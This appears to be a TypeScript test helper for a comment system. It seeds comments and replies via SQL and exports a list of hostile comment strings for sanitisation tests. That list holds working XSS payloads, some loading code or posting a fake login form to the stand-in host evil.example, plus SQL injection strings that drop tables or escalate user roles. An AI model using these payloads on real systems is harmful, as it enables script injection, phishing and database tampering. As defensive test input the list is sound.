import { sql } from 'drizzle-orm';
import type { Database } from '../../db/database.ts';
import type { CommentTarget } from '../comment-threads/comment-threads.repo.ts';

/** Fills a target with comments, a minute apart and ending now. Answers the newest one's id. */
export async function createComments(
  db: Database,
  { type, id }: CommentTarget,
  userId: number,
  count: number,
) {
  await db.execute(sql`
    insert into comments (target_type, target_id, user_id, content, content_html, created_at)
    select ${type}, ${id}, ${userId}, '第 ' || i || ' 条', '<p>第 ' || i || ' 条</p>',
      now() - make_interval(mins => ${count}::int - i)
    from generate_series(1, ${count}::int) i
  `);
  await addToThread(db, { type, id }, count, 0);
  const { rows } = await db.execute<{ id: string }>(sql`
    select max(id) as id from comments where target_type = ${type} and target_id = ${id} and parent_id is null
  `);
  return Number(rows[0]!.id);
}

/** Fills one comment with replies. */
export async function createReplies(
  db: Database,
  { type, id }: CommentTarget,
  parentId: number,
  userId: number,
  count: number,
) {
  await db.execute(sql`
    insert into comments (target_type, target_id, user_id, parent_id, content, content_html, created_at)
    select ${type}, ${id}, ${userId}, ${parentId}, '第 ' || i || ' 条回复', '<p>第 ' || i || ' 条回复</p>',
      now() - make_interval(secs => ${count}::int - i)
    from generate_series(1, ${count}::int) i
  `);
  await db.execute(
    sql`update comments set children_count = children_count + ${count} where id = ${parentId}`,
  );
  await addToThread(db, { type, id }, 0, count);
}

async function addToThread(db: Database, { type, id }: CommentTarget, comments: number, replies: number) {
  await db.execute(sql`
    insert into comment_threads (target_type, target_id, comments_count, replies_count, last_posted_at)
    values (${type}, ${id}, ${comments}, ${replies}, now())
    on conflict (target_type, target_id) do update set
      comments_count = comment_threads.comments_count + ${comments},
      replies_count = comment_threads.replies_count + ${replies}
  `);
}

/** What has been tried against comment boxes: none of it may run, close its row or reach another element. */
export const hostileComments: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" />',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">点我</a>',
  '<a href="JaVaScRiPt:alert(1)">点我</a>',
  '<a href="java\tscript:alert(1)">点我</a>',
  '<a href="&#106;avascript:alert(1)">点我</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">点我</a>',
  '<a href="vbscript:msgbox(1)">点我</a>',
  '<style>*{display:none}</style>',
  '<div style="position:fixed;inset:0;background:red">盖住</div>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=password><button>登录</button></form>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '</p></div></article><h1>跑出去</h1>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  'https://example.com/"onmouseover="alert(1)',
  "https://example.com/'><script>alert(1)</script>",
  'https://trusted.example@evil.example/login',
  "'; drop table comments; --",
  "\\'; update users set role_id = 1 where \\'1\\' = \\'1",
  '\u202Egpj.exe\u202C 从右往左',
  `${'\u0301'.repeat(200)}叠字 a${'\u0301'.repeat(200)}`,
];
